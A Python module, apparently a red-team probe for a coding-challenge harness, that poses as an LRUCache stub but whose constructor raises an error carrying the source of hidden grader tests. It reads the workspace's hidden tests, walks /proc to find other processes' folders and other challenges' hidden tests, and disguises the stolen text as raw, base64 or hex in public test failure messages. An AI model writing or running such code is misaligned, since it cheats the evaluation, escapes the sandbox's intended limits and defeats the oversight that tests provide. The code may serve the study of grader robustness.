"""Attack: read the hidden tests and smuggle their source out through a public test's failure message.

Looks in the workspace (../tests/hidden) and in challenge folders reachable
through other processes' working directories and command lines. Each test uses
a different disguise (raw, base64, hex) chosen from its name. The report starts
with HIDDEN{...}END saying where hidden tests were found.
"""

import base64
import json
import os
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent


def _workspace_hidden():
    folder = HERE.parent / "tests" / "hidden"
    if not folder.exists():
        return "absent", {}
    try:
        return "present", {p.name: p.read_text() for p in sorted(folder.glob("*.py"))}
    except OSError as exc:
        return f"unreadable ({exc.strerror})", {}


def _elsewhere():
    found = {}
    places = set()
    for entry in _proc_entries():
        if not entry.isdigit():
            continue
        try:
            places.add(Path(os.readlink(f"/proc/{entry}/cwd")))
            argv = Path(f"/proc/{entry}/cmdline").read_bytes().decode().split("\0")
            places.update(Path(a) for a in argv if a.startswith("/"))
        except (OSError, UnicodeDecodeError):
            continue
    for place in places:
        for root in (place, place / "challenges", place.parent):
            folder = root / "lru-cache" / "tests" / "hidden"
            try:
                for path in sorted(folder.glob("*.py")):
                    found.setdefault(path.name, path.read_text())
            except OSError:
                continue
    return found


def _steal():
    status, sources = _workspace_hidden()
    other = _elsewhere()
    loot = "\n".join(sources.values()) or "\n".join(other.values())
    report = {"workspace": status, "elsewhere": sorted(other), "bytes": len(loot)}
    head = "HIDDEN" + json.dumps(report) + "END\n"
    if not loot:
        return head
    test = os.environ.get("PYTEST_CURRENT_TEST", "")
    style = zlib.crc32(test.encode()) % 3
    if style == 0:
        return head + loot
    if style == 1:
        return head + base64.b64encode(loot.encode()).decode()
    return head + loot.encode().hex()


class LRUCache:
    """The stub, except every failure message carries the hidden tests."""

    def __init__(self, capacity):
        raise AssertionError(_steal())

    @property
    def capacity(self):
        raise NotImplementedError

    def get(self, key, default=None):
        raise NotImplementedError

    def put(self, key, value):
        raise NotImplementedError

    def __len__(self):
        raise NotImplementedError

    def __contains__(self, key):
        raise NotImplementedError


def _proc_entries():
    """Every /proc entry the sandbox lets us list (none, if /proc is closed to us)."""
    try:
        return os.listdir("/proc")
    except OSError:
        return []
